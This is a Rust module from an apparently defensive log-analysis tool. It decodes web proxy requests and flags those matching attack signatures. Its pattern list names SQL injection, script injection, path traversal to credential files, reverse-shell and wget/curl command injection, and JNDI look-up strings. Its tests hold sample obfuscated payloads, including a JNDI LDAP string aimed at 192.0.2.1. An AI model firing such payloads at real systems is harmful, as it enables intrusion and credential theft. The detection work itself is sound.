//! Requests that have the form of an attack: injection of SQL, script, commands or look-ups, paths that climb, exploits known by their words.
//!
//! Looked at are path, query, referrer and user agent, decoded as a server would (percent signs twice, plus signs, comments of SQL, white
//! space, case), so that the usual ways to hide are seen through. Words were chosen that requests of programs do not have; one request is told.
//! Bodies are not recorded, so what is posted is not seen.

use std::net::IpAddr;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, MatchKind};
use hashbrown::{HashMap, HashSet};

use super::rows::ProxyRow;
use super::tail::Scale;
use super::{CASES, Case, Covers, Findings};

/// What is looked for, by the kind of attack. In lower case, with one space for any white space.
const FORMS: [(&str, &[&str]); 7] = [
    (
        "SQL injection",
        &[
            "union select",
            "union all select",
            "union distinct select",
            "' or '1'='1",
            "' or 1=1",
            "\" or 1=1",
            "\" or \"1\"=\"1",
            ") or (1=1",
            "' and 1=1",
            "' and '1'='1",
            " and sleep(",
            " or sleep(",
            "waitfor delay '",
            "pg_sleep(",
            "benchmark(",
            "information_schema.",
            "extractvalue(",
            "xp_cmdshell",
            "; drop table",
            ";drop table",
            "into outfile",
            "load_file(",
        ],
    ),
    (
        "script injection",
        &[
            "<script",
            "</script",
            "javascript:alert",
            "onerror=alert",
            "onload=alert",
            "<svg/onload",
            "<svg onload",
            "<img src=x",
            "document.cookie)",
            "alert(document",
            "alert(1)",
        ],
    ),
    (
        "path traversal",
        &[
            "/etc/passwd",
            "/etc/shadow",
            "../../../",
            "..\\..\\..\\",
            "....//....//",
            "/..;/",
            "/proc/self/",
            "windows/win.ini",
            "windows\\win.ini",
            "boot.ini",
            "/.ssh/id_rsa",
            "/.aws/credentials",
            "/.git/config",
        ],
    ),
    (
        "command injection",
        &[
            "() { :",
            "() {:",
            "/bin/sh",
            "/bin/bash",
            "/dev/tcp/",
            "cmd.exe",
            "powershell -",
            "powershell.exe",
            ";wget http",
            "; wget http",
            "|wget http",
            "`wget http",
            "$(wget http",
            "&wget http",
            ";curl http",
            "; curl http",
            "|curl http",
            "$(curl http",
            "cd /tmp",
            ";cat /",
            "|cat /",
            "; cat /",
            "=cat /etc",
            "=whoami",
            ";whoami",
            "|whoami",
            "=uname -a",
            ";uname -a",
            "=ipconfig /all",
            "=net user",
            ";id;",
            "|id|",
            "nc -e",
            "chmod 777",
        ],
    ),
    (
        "look-up injection",
        &[
            "${jndi:",
            "${lower:",
            "${upper:",
            "${::-",
            "${env:",
            "${sys:",
            "#{t(java",
            "${t(java",
            "%{(#",
            "@java.lang.runtime",
        ],
    ),
    (
        "code injection",
        &[
            "php://input",
            "php://filter",
            "allow_url_include",
            "auto_prepend_file",
            "base64_decode(",
            "eval(",
            "<?php",
            "phpinfo(",
            "passthru(",
            "shell_exec(",
            "invokefunction",
            "class.module.classloader",
            "runtime.getruntime",
            "__import__(",
            "expect://",
        ],
    ),
    (
        "scanner",
        &[
            "sqlmap/",
            "nikto/",
            "nmap scripting engine",
            "masscan/",
            "zgrab/",
            "nuclei - ",
            "wpscan",
            "gobuster/",
            "dirbuster",
            "feroxbuster/",
            "fuzz faster u fool",
            "wfuzz/",
            "acunetix",
            "openvas",
            "w3af.",
            "havij",
            "whatweb/",
            "commix/",
            "hydra)",
        ],
    ),
];

/// Longest text that is decoded.
const LONGEST: usize = 16_384;

/// The example in the evidence is cut here.
const SHOWN: usize = 100;

/// Attacks that one client sent to one server name.
#[derive(Clone, Debug, Default)]
struct Sent {
    forms: [u64; FORMS.len()],
    /// The first of them, and what of it.
    first: Option<(i64, String)>,
}

/// All words, and the kind of each.
static WORDS: LazyLock<Option<(AhoCorasick, Vec<usize>)>> = LazyLock::new(|| {
    let all = FORMS.iter().enumerate().flat_map(|(kind, (_, words))| words.iter().map(move |word| (*word, kind)));
    let (words, kinds): (Vec<&str>, Vec<usize>) = all.unzip();
    Some((AhoCorasick::builder().match_kind(MatchKind::LeftmostFirst).build(words).ok()?, kinds))
});

/// Requests of clients, and those of them that are attacks, by client and server name.
#[derive(Clone, Debug, Default)]
pub struct Attacks {
    clients: HashSet<IpAddr>,
    pairs: HashMap<(IpAddr, Box<str>), Sent>,
    overflow: u64,
    text: Vec<u8>,
}

impl Attacks {
    /// Looks at a record.
    pub fn handle(&mut self, row: &ProxyRow<'_>) {
        if self.clients.len() < CASES {
            self.clients.insert(row.client);
        }
        let parts = [row.uri_path, row.uri_query, row.referer.unwrap_or(""), row.user_agent.unwrap_or("")];
        let found = parts.into_iter().find_map(|part| self.kind(part).map(|kind| (kind, part)));
        let Some((kind, part)) = found else { return };
        let key = (row.client, row.host.into());
        if self.pairs.len() >= CASES && !self.pairs.contains_key(&key) {
            self.overflow += 1;
            return;
        }
        let sent = self.pairs.entry(key).or_default();
        if let Some(count) = sent.forms.get_mut(kind) {
            *count += 1;
        }
        // Of two at one moment the lesser: the order of records does not matter.
        let is_first = sent.first.as_ref().is_none_or(|(at, text)| (row.first_seen, part) < (*at, text.as_str()));
        if is_first {
            sent.first = Some((row.first_seen, part.to_owned()));
        }
    }

    /// The kind of attack that a text is, as a place in [`FORMS`].
    fn kind(&mut self, text: &str) -> Option<usize> {
        let (words, kinds) = WORDS.as_ref()?;
        decode(text, &mut self.text);
        kinds.get(words.find(&self.text)?.pattern().as_usize()).copied()
    }

    pub(crate) fn finish(self, findings: &mut Findings) {
        let guilty: HashSet<IpAddr> = self.pairs.keys().map(|(client, _)| *client).collect();
        let mut statistics = vec![0.0; self.clients.len().saturating_sub(guilty.len())];
        let mut cases = Vec::with_capacity(self.pairs.len());
        for ((client, host), sent) in self.pairs {
            let kinds: Vec<(&str, u64)> = FORMS
                .iter()
                .zip(sent.forms)
                .filter(|(_, count)| *count > 0)
                .map(|((name, _), count)| (*name, count))
                .collect();
            let all: u64 = sent.forms.iter().sum();
            let statistic = (10.0 * all as f64 * kinds.len() as f64).ln();
            let listed: Vec<String> = kinds.iter().map(|(name, count)| format!("{name} {count}")).collect();
            let first: String = sent.first.map(|(_, text)| text.chars().take(SHOWN).collect()).unwrap_or_default();
            let evidence =
                format!("{all} requests to {host} have the form of an attack ({}), as {first}", listed.join(", "));
            statistics.push(statistic);
            cases.push(Case { statistic, host: client, covers: Covers::Host(host), evidence });
        }
        findings.add("attack in request", Scale::Quantity { usual: 1.0 }, statistics, cases, self.overflow);
    }
}

/// A text as a server would read it: `%xx` decoded twice, `+`, white space and SQL's comments as one space, letters lower.
fn decode(text: &str, out: &mut Vec<u8>) {
    out.clear();
    out.extend(text.bytes().take(LONGEST));
    for _ in 0..2 {
        if !out.contains(&b'%') {
            break;
        }
        percent_decode(out);
    }
    let (mut read, mut write) = (0, 0);
    while let Some(byte) = out.get(read).copied() {
        let comment = out.get(read..).filter(|rest| rest.starts_with(b"/*"));
        let comment = comment.and_then(|rest| rest.windows(2).skip(2).position(|end| end == b"*/"));
        let (byte, step) = match (comment, byte) {
            // Two to begin, two to end.
            (Some(inside), _) => (b' ', inside + 4),
            (None, b'+' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | 0xa0) => (b' ', 1),
            (None, other) => (other.to_ascii_lowercase(), 1),
        };
        read += step;
        let is_second_space = byte == b' ' && write > 0 && out.get(write - 1) == Some(&b' ');
        if let Some(place) = out.get_mut(write).filter(|_| !is_second_space) {
            *place = byte;
            write += 1;
        }
    }
    out.truncate(write);
}

fn percent_decode(bytes: &mut Vec<u8>) {
    let digit = |byte: Option<&u8>| char::from(*byte?).to_digit(16);
    let (mut read, mut write) = (0, 0);
    while let Some(byte) = bytes.get(read).copied() {
        let (byte, step) = match (byte, digit(bytes.get(read + 1)), digit(bytes.get(read + 2))) {
            (b'%', Some(high), Some(low)) => ((high << 4 | low) as u8, 3),
            _ => (byte, 1),
        };
        if let Some(place) = bytes.get_mut(write) {
            *place = byte;
        }
        write += 1;
        read += step;
    }
    bytes.truncate(write);
}

#[cfg(test)]
mod tests {
    use super::super::Requests;
    use super::super::rows::Internal;
    use super::*;

    fn request<'a>(client: u8, path: &'a str, query: &'a str, agent: &'a str) -> ProxyRow<'a> {
        let answered = ProxyRow {
            uri_path: path,
            uri_query: query,
            user_agent: Some(agent),
            ..ProxyRow::sample([10, 0, 0, client])
        };
        ProxyRow { host: "shop.example", ..answered }
    }

    #[test]
    fn hidden_forms_are_seen_through_and_usual_requests_are_not_taken() {
        let mut attacks = Attacks::default();
        let mut kind = |text: &str| attacks.kind(text).map(|kind| FORMS[kind].0);
        for (text, expected) in [
            ("id=1%27+UNION%2F%2A%2A%2Fall%0d%0aSELECT+1", "SQL injection"),
            ("q=x' oR '1'='1", "SQL injection"),
            ("q=%253Cscript%253E", "script injection"),
            ("/cgi-bin/.%2e/.%2e/.%2e/%65tc/passwd", "path traversal"),
            ("${jndi:ldap://192.0.2.1/a}", "look-up injection"),
            ("x=${${::-j}ndi:ldap://192.0.2.1/a}", "look-up injection"),
            ("() { :; }; /bin/cat /x", "command injection"),
            ("ip=127.0.0.1%3Bid%3B", "command injection"),
            ("page=PHP://INPUT", "code injection"),
            ("sqlmap/1.8#stable (https://sqlmap.example)", "scanner"),
        ] {
            assert_eq!(kind(text), Some(expected), "{text}");
        }
        for usual in [
            "",
            "q=select+a+union+for+teachers",
            "/docs/../img/logo.png",
            "redirect=https%3A%2F%2Fwww.example%2Fa%3Fb%3D%2541",
            "/*",
            "/*/",
            "%",
            "%4",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
            "utm_source=news&utm_campaign=or+1%3D1+off",
            "/scripts/evaluate(1).js",
            "filter=price gt 5 or sleep eq 3",
        ] {
            assert_eq!(kind(usual), None, "{usual}");
        }
    }

    #[test]
    fn one_attack_among_many_clients_is_found_and_told_by_its_first_request() {
        let mut watch = Requests::new(Internal::default());
        for client in 1..200 {
            (0..20).for_each(|_| watch.handle(&request(client, "/index.html", "page=2", "Mozilla/5.0")));
        }
        watch.handle(&request(201, "/", "", "${jndi:ldap://192.0.2.1/a}"));
        let findings = watch.finish();
        let found: Vec<_> = findings.list().iter().filter(|f| f.detector == "attack in request").collect();
        assert_eq!(found.len(), 1);
        assert_eq!((found[0].host, &found[0].covers), ([10, 0, 0, 201].into(), &Covers::Host("shop.example".into())));
        assert!(found[0].ln_expected < -2.0, "{}", found[0].ln_expected);
        assert!(
            found[0].evidence.ends_with("(look-up injection 1), as ${jndi:ldap://192.0.2.1/a}"),
            "{}",
            found[0].evidence
        );
    }
}
